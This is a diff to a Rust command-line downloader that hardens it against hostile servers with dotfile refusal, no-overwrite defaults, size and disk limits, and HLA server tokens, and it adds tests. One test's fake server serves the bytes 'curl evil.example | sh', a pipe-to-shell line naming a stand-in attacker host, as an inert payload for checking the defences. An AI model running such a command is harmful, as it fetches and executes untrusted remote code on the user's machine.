@@ -10,6 +10,20 @@
 //! ([`Learning::fetch_update`]); it runs the session, showing its plan and a progress line
 //! ([`Show`]); then it hands the broker its records ([`Learning::record`]), says what happened
 //! ([`say`]), and uploads and keeps the broker's logs ([`Learning::share`]).
+//!
+//! # What a server cannot make it do
+//!
+//! Servers may be hostile (issue 43); the engine's module docs ([`roam_transfer::engine`])
+//! say how each attack is met. What the user sees and sets:
+//!
+//! | what | default | option |
+//! |---|---|---|
+//! | a directory listing's names starting with `.` | refused, counted | (none: give the URL) |
+//! | a file already in `--out` | kept, not fetched (like `wget -nc`) | `--overwrite` |
+//! | a symbolic link at `NAME`, `NAME.part`, `NAME.part.ranges` | refused | (none) |
+//! | the largest file a server may announce | 64 GiB | `--max-file-size` |
+//! | the most bytes one run brings | 1 TiB | `--max-total` |
+//! | disk left free ([`roam_transfer::engine::MIN_FREE`]) | 64 MiB | (none) |
 
 use std::path::PathBuf;
 use std::sync::Arc;
@@ -18,7 +32,8 @@ use std::time::Duration;
 use anyhow::{bail, Context, Result};
 use clap::Args;
 use roam_core::progress::Progress;
-use roam_transfer::broker::{modelled_energy_per_100mb, Broker, Choice, Source};
+use roam_transfer::broker::{modelled_energy_per_100mb, Broker, Choice, Source, Update};
+use roam_transfer::engine::{parse_size, Limits};
 use roam_transfer::hla::{LogContext, Record};
 use roam_transfer::model::Condition;
 use roam_transfer::session::{self, Group, Network, Options, Outcome, Session, Tuning, Watch};
@@ -30,7 +45,9 @@ use super::{append_log, failures, progress, self_cpu, Reach};
 #[derive(Args, Debug)]
 pub struct GetArgs {
     /// URLs (http:// or https://) to download; a URL ending in `/` is a directory, whose
-    /// listing (an HTML index, or nginx's JSON one) gives its files, one level deep.
+    /// listing (an HTML index, or nginx's JSON one) gives its files, one level deep. A listed
+    /// name starting with `.` (`.bashrc`, `.ssh`) is refused and counted, never saved: give
+    /// its URL to fetch it.
     urls: Vec<String>,
     /// A file of URLs, one a line, each optionally followed by the file's size in bytes (`URL
     /// SIZE`: with sizes, --auto's survey asks only its first wave); blank lines and `#`
@@ -40,6 +57,22 @@ pub struct GetArgs {
     /// Directory the files are saved in (created if missing).
     #[arg(long, default_value = ".")]
     out: PathBuf,
+    /// Replace files already in --out. Without it a file already there is kept and not
+    /// fetched (reported as kept, not as a failure; as `wget -nc` does and aria2 never
+    /// overwrites), and only a download's own NAME.part is resumed. A symbolic link there
+    /// is never followed nor replaced, with or without it.
+    #[arg(long)]
+    overwrite: bool,
+    /// The largest file a server may announce, in bytes or with a unit (500M, 64G, 2T;
+    /// `none` for no limit): a larger one is refused before anything of it is written.
+    #[arg(long, value_name = "BYTES", default_value = "64G", value_parser = parse_size)]
+    max_file_size: u64,
+    /// The most bytes this run may bring in all, in bytes or with a unit (`none` for no
+    /// limit): a file whose missing bytes would take the run past it is refused. Whatever the
+    /// limits, a file is not started unless its disk keeps 64 MiB free once it and the run's
+    /// other files are written (the error names it).
+    #[arg(long, value_name = "BYTES", default_value = "1T", value_parser = parse_size)]
+    max_total: u64,
     /// Concurrency: files in flight at once.
     #[arg(long, default_value_t = Params::default().cc)]
     cc: u32,
@@ -77,10 +110,16 @@ pub struct GetArgs {
     /// $XDG_STATE_HOME/roam/transfer-broker.json (or ~/.local/state/...).
     #[arg(long)]
     state: Option<PathBuf>,
-    /// HLA server (http://host:port, `roam hla serve`) to upload this device's logs to and
-    /// fetch updates from.
+    /// HLA server (https://host:port, or http:// on this machine; `roam hla serve`) to upload
+    /// this device's logs to and fetch updates from. Its certificate is checked against the
+    /// system's authorities and --ca's. Its update is checked before use: entries out of
+    /// bounds, and a model that does not check, are dropped with a warning.
     #[arg(long)]
     hla: Option<String>,
+    /// A file holding this device's token for the HLA server (its first line; uploads need
+    /// one). Default: the ROAM_HLA_TOKEN environment variable, if set.
+    #[arg(long, value_name = "FILE", requires = "hla")]
+    hla_token_file: Option<PathBuf>,
     /// The network's bandwidth in Mbit/s, part of the condition the broker looks up (default:
     /// the fastest transfer the broker has seen, a lower bound, else 10).
     #[arg(long)]
@@ -121,6 +160,7 @@ pub fn get(a: &GetArgs) -> Result<()> {
     // Before the survey and the plan: two files under one name are refused.
     let session = Session::new(specs, session_options(a)?)?;
     let fixed = fixed_params(a, protocol)?;
+    let hla = hla_client(a)?;
     let mut learning = Learning::open(a)?;
     let mut show = Show {
         auto: a.auto,
@@ -129,8 +169,8 @@ pub fn get(a: &GetArgs) -> Result<()> {
     };
     let cpu0 = self_cpu();
     let outcome = rt.block_on(async {
-        if let (true, Some(url)) = (a.auto, &a.hla) {
-            learning.fetch_update(url).await;
+        if let (true, Some(hla)) = (a.auto, &hla) {
+            learning.fetch_update(hla).await;
         }
         let broker = &learning.broker;
         let tuning = if a.auto {
@@ -159,13 +199,13 @@ pub fn get(a: &GetArgs) -> Result<()> {
         append_log(path, &whole)?;
     }
     say(&whole);
-    learning.share(&rt, a.hla.as_deref(), ask)?;
+    learning.share(&rt, hla.as_ref(), ask)?;
     failures(&whole)
 }
 
 /// How the session reaches servers (`--socks5`, `--ca`), whether it surveys with fixed
-/// parameters (when the broker logs the transfer), `--http2`, and stealing (`--min-steal`,
-/// `--no-steal`).
+/// parameters (when the broker logs the transfer), `--http2`, stealing (`--min-steal`,
+/// `--no-steal`), and what it may write (`--overwrite`, `--max-file-size`, `--max-total`).
 fn session_options(a: &GetArgs) -> Result<Options> {
     Ok(Options {
         connector: a.reach.connector()?,
@@ -177,6 +217,12 @@ fn session_options(a: &GetArgs) -> Result<Options> {
             a.min_steal.max(1)
         },
         time_limit: None,
+        limits: Limits {
+            max_file_size: a.max_file_size,
+            max_total: a.max_total,
+            overwrite: a.overwrite,
+            ..Limits::default()
+        },
     })
 }
 
@@ -205,7 +251,14 @@ fn files_to_get(
             0 => String::new(),
             n => format!("; {n} other link(s) not followed (subdirectories, parents, sort links)"),
         };
-        eprintln!("{u}: {} file(s) listed{others}", listing.files.len());
+        let hidden = match listing.hidden {
+            0 => String::new(),
+            n => format!("; {n} hidden file(s) refused (names starting with `.`)"),
+        };
+        eprintln!(
+            "{u}: {} file(s) listed{others}{hidden}",
+            listing.files.len()
+        );
         specs.extend(listing.files);
     }
     if let Some(l) = &a.list {
@@ -217,6 +270,34 @@ fn files_to_get(
         bail!("nothing to download: give URLs or --list FILE");
     }
     Ok(specs)
+}
+
+/// The HLA server `--hla` names, reached with `--ca`'s authorities too and this device's
+/// token (`--hla-token-file`, else `ROAM_HLA_TOKEN`).
+fn hla_client(a: &GetArgs) -> Result<Option<server::HlaClient>> {
+    let Some(url) = &a.hla else {
+        return Ok(None);
+    };
+    let token = match &a.hla_token_file {
+        Some(f) => {
+            let text =
+                std::fs::read_to_string(f).with_context(|| format!("reading {}", f.display()))?;
+            let t = text.lines().next().unwrap_or_default().trim().to_string();
+            if t.is_empty() {
+                bail!("{}: no token on its first line", f.display());
+            }
+            Some(t)
+        }
+        None => std::env::var("ROAM_HLA_TOKEN")
+            .ok()
+            .map(|t| t.trim().to_string())
+            .filter(|t| !t.is_empty()),
+    };
+    Ok(Some(server::HlaClient::new(
+        url,
+        a.reach.ca.as_deref(),
+        token,
+    )?))
 }
 
 /// The options checked before any byte moves; the parameters `--cc`, `--p` and `--bs` give.
@@ -285,9 +366,16 @@ impl Watch for Show {
     }
 }
 
-/// What the transfer's files say beyond success: ranges not served, requests sent again,
-/// ranges taken over; then the whole transfer's size, time and rate.
+/// What the transfer's files say beyond success: files kept, ranges not served, requests
+/// sent again, ranges taken over; then the whole transfer's size, time and rate.
 fn say(whole: &Report) {
+    let kept = whole.kept();
+    if kept > 0 {
+        eprintln!(
+            "{kept} file(s) already in the output directory kept, not fetched (--overwrite \
+             replaces them)"
+        );
+    }
     let unranged = whole
         .files
         .iter()
@@ -358,14 +446,22 @@ impl Learning {
     }
 
     /// The HLA server's update, unless the broker already has one.
-    async fn fetch_update(&mut self, url: &str) {
+    async fn fetch_update(&mut self, hla: &server::HlaClient) {
         if self.broker.has_update() {
             return;
         }
-        match server::fetch_update(url).await {
-            Ok(u) => self.broker.apply(u),
+        match hla.fetch_update().await {
+            Ok(u) => self.apply(u),
             Err(e) => eprintln!("no update from the HLA server (defaults until there is): {e}"),
         }
+    }
+
+    /// An update fetched (checked as it was: what could not be used is dropped and said).
+    fn apply(&mut self, (update, dropped): (Update, Vec<String>)) {
+        for d in dropped {
+            eprintln!("warning: the HLA server's update: {d}");
+        }
+        self.broker.apply(update);
     }
 
     /// Each group's record handed to the broker (if used); whether the broker asks for a
@@ -384,20 +480,37 @@ impl Learning {
 
     /// The broker's logs uploaded to the HLA server `hla` (and a fresh update fetched if
     /// `ask`), then the broker saved.
-    fn share(&mut self, rt: &tokio::runtime::Runtime, hla: Option<&str>, ask: bool) -> Result<()> {
+    fn share(
+        &mut self,
+        rt: &tokio::runtime::Runtime,
+        hla: Option<&server::HlaClient>,
+        ask: bool,
+    ) -> Result<()> {
         if !self.enabled {
             return Ok(());
         }
-        if let Some(url) = hla {
+        if let Some(hla) = hla {
             rt.block_on(async {
                 let pending: Vec<Record> = self.broker.pending().cloned().collect();
-                match server::upload(url, &pending).await {
-                    Ok(n) => self.broker.uploaded(n),
-                    Err(e) => eprintln!("logs kept for later, not uploaded: {e}"),
+                let upload = match (pending.is_empty(), hla.has_token()) {
+                    (true, _) => None,
+                    (false, false) => {
+                        eprintln!(
+                            "logs kept for later, not uploaded: the HLA server takes uploads \
+                             with a device token (--hla-token-file, or ROAM_HLA_TOKEN)"
+                        );
+                        None
+                    }
+                    (false, true) => Some(hla.upload(&pending).await),
+                };
+                match upload {
+                    Some(Ok(n)) => self.broker.uploaded(n),
+                    Some(Err(e)) => eprintln!("logs kept for later, not uploaded: {e}"),
+                    None => {}
                 }
                 if ask {
-                    match server::fetch_update(url).await {
-                        Ok(u) => self.broker.apply(u),
+                    match hla.fetch_update().await {
+                        Ok(u) => self.apply(u),
                         Err(e) => eprintln!("no update from the HLA server: {e}"),
                     }
                 }
@@ -488,5 +601,116 @@ mod tests {
         );
         assert!(e("http://h/a 1 2").contains("`2` after"));
         assert!(e("\nftp://h/a").contains("line 2"));
+    }
+
+    #[derive(clap::Parser)]
+    struct Cli {
+        #[command(flatten)]
+        get: GetArgs,
+    }
+
+    fn args(v: &[&str]) -> GetArgs {
+        use clap::Parser;
+        Cli::parse_from(std::iter::once("get").chain(v.iter().copied())).get
+    }
+
+    /// The defaults `--help` shows are the engine's.
+    #[test]
+    fn the_limits_defaults_are_the_engines() {
+        let a = args(&["http://h/f"]);
+        let l = session_options(&a).unwrap().limits;
+        assert_eq!(l, Limits::default());
+        let a = args(&[
+            "--max-file-size",
+            "1500M",
+            "--max-total",
+            "none",
+            "--overwrite",
+            "u",
+        ]);
+        let l = session_options(&a).unwrap().limits;
+        assert_eq!((l.max_file_size, l.max_total), (1500 << 20, u64::MAX));
+        assert!(l.overwrite);
+        use clap::Parser;
+        let bad = Cli::try_parse_from(["get", "--max-total", "2X", "u"])
+            .err()
+            .unwrap();
+        assert!(bad.to_string().contains("unknown unit"), "{bad}");
+    }
+
+    /// A hostile server on a thread: `/d/` lists `.bashrc` and two files, each served (in
+    /// ranges) with `evil` bytes; one connection per request.
+    fn hostile_site(evil: &'static [u8]) -> String {
+        use std::io::{Read, Write};
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let base = format!("http://{}", l.local_addr().unwrap());
+        std::thread::spawn(move || {
+            for mut s in l.incoming().flatten() {
+                let mut head = Vec::new();
+                let mut b = [0u8; 1024];
+                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match s.read(&mut b) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => head.extend_from_slice(&b[..n]),
+                    }
+                }
+                let head = String::from_utf8_lossy(&head).to_lowercase();
+                let path = head.split_whitespace().nth(1).unwrap_or("").to_string();
+                let range = head.lines().find_map(|l| {
+                    let (a, z) = l.strip_prefix("range: bytes=")?.trim().split_once('-')?;
+                    Some((a.parse::<usize>().ok()?, z.parse::<usize>().ok()))
+                });
+                let page = r#"<a href="../">..</a><a href=".bashrc">x</a><a href="a.bin">a</a>
+                    <a href="b.bin">b</a>"#;
+                let (status, body, extra) = match (path.as_str(), range) {
+                    ("/d/", _) => ("200 OK", page.as_bytes(), String::new()),
+                    (_, Some((a, z))) if a < evil.len() => {
+                        let z = z.unwrap_or(evil.len() - 1).min(evil.len() - 1);
+                        let cr = format!("content-range: bytes {a}-{z}/{}\r\n", evil.len());
+                        ("206 Partial Content", &evil[a..=z], cr)
+                    }
+                    _ => ("200 OK", evil, String::new()),
+                };
+                let _ = write!(
+                    s,
+                    "HTTP/1.1 {status}\r\n{extra}content-length: {}\r\nconnection: close\r\n\r\n",
+                    body.len()
+                );
+                let _ = s.write_all(body);
+            }
+        });
+        base
+    }
+
+    /// `roam transfer get DIR/ --out D`: the listing's `.bashrc` is refused, the file already
+    /// in D kept (not a failure); `--overwrite` replaces it; `--max-file-size` below a file's
+    /// size fails that file, and writes nothing of it.
+    #[test]
+    fn a_hostile_listing_neither_plants_dotfiles_nor_replaces_files() {
+        const EVIL: &[u8] = b"curl evil.example | sh\n";
+        let url = format!("{}/d/", hostile_site(EVIL));
+        let out = std::env::temp_dir().join(format!("roam-get-hostile-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&out);
+        std::fs::create_dir_all(&out).unwrap();
+        std::fs::write(out.join(".bashrc"), "mine").unwrap();
+        std::fs::write(out.join("a.bin"), "mine too").unwrap();
+        let o = out.display().to_string();
+        get(&args(&[&url, "--out", &o])).unwrap();
+        assert_eq!(std::fs::read(out.join(".bashrc")).unwrap(), b"mine");
+        assert_eq!(std::fs::read(out.join("a.bin")).unwrap(), b"mine too");
+        assert_eq!(std::fs::read(out.join("b.bin")).unwrap(), EVIL);
+        get(&args(&[&url, "--out", &o, "--overwrite", "--p", "2"])).unwrap();
+        assert_eq!(std::fs::read(out.join("a.bin")).unwrap(), EVIL);
+        assert_eq!(std::fs::read(out.join(".bashrc")).unwrap(), b"mine");
+        let capped = out.join("capped");
+        let c = capped.display().to_string();
+        let e = get(&args(&[&url, "--out", &c, "--max-file-size", "10"])).unwrap_err();
+        assert!(e.to_string().contains("2 of 2 file(s) failed"), "{e}");
+        assert_eq!(
+            std::fs::read_dir(&capped).unwrap().count(),
+            0,
+            "nothing written"
+        );
+        let _ = std::fs::remove_dir_all(&out);
     }
 }
